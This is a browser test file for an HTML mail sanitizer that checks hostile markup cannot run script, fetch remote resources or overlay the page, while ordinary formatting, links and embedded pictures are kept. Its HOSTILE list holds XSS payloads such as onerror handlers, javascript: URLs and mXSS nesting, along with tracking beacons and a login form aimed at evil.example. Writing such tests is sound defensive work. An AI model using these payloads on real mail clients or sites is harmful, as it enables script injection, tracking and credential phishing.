// Hostile mail: no script runs, nothing is fetched, nothing leaves its box. What a letter needs stays.
import { expect } from '@open-wc/testing';
import { safeMail } from '../../widget/reading/mail-html.ts';
import { ONE_PIXEL } from '../support/one-pixel.ts';
import { dutch } from './shown-screen.ts';

/** Each would run `window.hacked()` or ask `https://evil.example` for something. */
const HOSTILE = [
  '<script>hacked()</script>',
  '<img src=x onerror="hacked()">',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a 1x" src="//evil.example/b">',
  '<svg onload="hacked()"><image href="https://evil.example/i"/></svg>',
  '<svg><style>@import "https://evil.example/c"</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="hacked()">',
  '<iframe src="javascript:hacked()"></iframe><iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>*{background:url(https://evil.example/t)}</style>',
  '<p style="background:url(https://evil.example/u)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">overlay</p>',
  '<p style="color:red;background-image:url(https://evil.example/v)">x</p>',
  '<p style="color:expression(hacked())">x</p>',
  '<table background="https://evil.example/w"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<a href="javascript:hacked()">x</a><a href=" java\tscript:hacked()">x</a><a href="data:text/html,<script>hacked()</script>">x</a>',
  '<a href="https://good.example" onclick="hacked()" ping="https://evil.example/ping">x</a>',
  '<form action="https://evil.example/f"><input name="code"><button>Log in</button></form>',
  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a"></audio>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<template><script>hacked()</script></template><noscript><img src="https://evil.example/n"></noscript>',
  '<div id="code" class="heading" slot="help" part="heading" is="x-evil" contenteditable autofocus onfocus="hacked()" tabindex="0">x</div>',
  '<img src="data:image/svg+xml,<svg onload=hacked()>"><img src="cid:svg"><img src="cid:unknown" onerror="hacked()">',
  '<bgsound src="https://evil.example/z"><isindex action="https://evil.example/q">',
  '<secure-message-reader api="https://evil.example"></secure-message-reader>',
];

async function shown(html: string, pictures: { id: string; contentId: string }[] = [], bytes: BlobPart[] = []) {
  const mail = safeMail(html, pictures, async () => new Blob(bytes), 2, {
    ...dutch.texts.message,
    language: 'nl',
  });
  if (mail === undefined) throw new Error('not made safe');
  const { content } = mail;
  if (typeof content === 'string') throw new Error('only words');
  const box = document.createElement('div');
  box.append(content);
  document.body.append(box);
  return { box, mail };
}

describe('HTML mail', () => {
  for (const html of HOSTILE) {
    it(`is harmless: ${html.slice(0, 60)}`, async () => {
      let hacked = false;
      Object.assign(window, { hacked: () => (hacked = true) });
      performance.clearResourceTimings();
      const { box, mail } = await shown(html, [{ id: '1', contentId: 'svg' }], ['<svg onload="hacked()">']);
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      const fetched = performance.getEntriesByType('resource').filter(({ name }) => !name.startsWith(location.origin));
      const attributes = [...box.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
      mail.release();
      box.remove();
      expect(hacked).to.equal(false);
      expect(fetched.map(({ name }) => name)).to.deep.equal([]);
      expect(box.innerHTML).not.to.match(/evil|hacked|<(script|style|svg|math|iframe|form|input|template|secure)/i);
      expect(attributes.filter((name) => !['href', 'target', 'rel', 'style'].includes(name))).to.deep.equal([]);
      expect(box.innerHTML).not.to.match(/position|url\(|expression/);
    });
  }

  it('keeps what a letter needs', async () => {
    const { box } = await shown(
      '<h2>Beste</h2><p><b>Let op</b>: <a href="https://www.example.nl/a">lees</a></p><table><tr><th colspan="2">1</th></tr><tr><td>2</td><td>3</td></tr></table>',
    );
    expect(box.querySelector('h2')?.textContent).to.equal('Beste');
    expect(box.querySelector('th')?.colSpan).to.equal(2);
    const link = box.querySelector('a');
    expect([link?.getAttribute('href'), link?.target, link?.rel]).to.deep.equal([
      'https://www.example.nl/a',
      '_blank',
      'noopener noreferrer',
    ]);
    box.remove();
  });

  it('leads to the encrypted twin of a page, and of other addresses nowhere', async () => {
    const { box } = await shown(
      '<a href=" HTTP://www.example.nl/oud?a=1#b">x</a><a href="ftp://example.nl/">y</a><a href="/pad">z</a><a href="mailto:a@example.nl">m</a>',
    );
    const links = [...box.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(links).to.deep.equal(['https://www.example.nl/oud?a=1#b', 'mailto:a@example.nl']);
    expect(box.textContent).to.equal('xyzm');
    box.remove();
  });

  it('keeps a colour that can be read, and drops one that can not', async () => {
    const { box } = await shown(
      '<p style="color:#a00000;font-weight:bold;text-align:center">x</p><p style="color:white">y</p>',
    );
    const [first, second] = box.querySelectorAll('p');
    const words = getComputedStyle(first?.querySelector('b') ?? box);
    expect([words.color, words.fontWeight, words.textAlign]).to.deep.equal(['rgb(160, 0, 0)', '700', 'center']);
    expect(second?.innerHTML).to.equal('y');
    box.remove();
  });

  it('shows a picture of the mail itself, once decoded, and lists it', async () => {
    const { box, mail } = await shown(
      '<img src="cid:logo" alt="Logo"><img src="cid:logo">',
      [{ id: '7', contentId: 'logo' }],
      [ONE_PIXEL],
    );
    const [first, second] = box.querySelectorAll('img');
    await new Promise((resolve) => first?.addEventListener('load', resolve));
    expect(first?.src).to.match(/^blob:/);
    expect(second?.src).to.equal(first?.src);
    expect([...mail.shown]).to.deep.equal(['7']);
    box.remove();
  });

  it('shows a picture that is written out in the HTML, in the size that it has there, when it is one', async () => {
    const base64 = btoa(String.fromCharCode(...ONE_PIXEL));
    const { box } = await shown(
      `<img src="data:image/png;base64,${base64}" width="150" height="50" alt="Logo"><img src="data:image/png;base64,PHN2Zz4=" alt="Geen">`,
    );
    const [picture] = box.querySelectorAll('img');
    await new Promise((resolve) => picture?.addEventListener('load', resolve));
    expect([picture?.src.slice(0, 5), picture?.width, picture?.getAttribute('height')]).to.deep.equal([
      'blob:',
      150,
      '50',
    ]);
    expect(box.textContent).to.equal('Geen');
    box.remove();
  });

  it('keeps the links of a picture with several', async () => {
    const { box } = await shown(
      '<img src="https://example.nl/x.png" usemap="#m"><map name="m"><area href="http://example.nl/a" alt="Agenda"></map>',
    );
    const [link] = box.querySelectorAll('a');
    expect([link?.textContent, link?.getAttribute('href')]).to.deep.equal(['Agenda', 'https://example.nl/a']);
    box.remove();
  });

  it('counts the pictures of other websites, and shows their description', async () => {
    const { box, mail } = await shown('<p>Hier: <img src="https://example.nl/a.png" alt="De kaart"></p>');
    expect(mail.remotePictures).to.equal(1);
    expect(box.textContent).to.equal('Hier: De kaart');
    box.remove();
  });

  it('decodes no more than 50 pictures', async () => {
    const pictures = Array.from({ length: 60 }, (_, at) => ({ id: `${at}`, contentId: `p${at}` }));
    const { box, mail } = await shown(
      pictures.map(({ contentId }) => `<img src="cid:${contentId}">`).join(''),
      pictures,
      [ONE_PIXEL],
    );
    expect(mail.shown.size).to.equal(50);
    box.remove();
  });
});
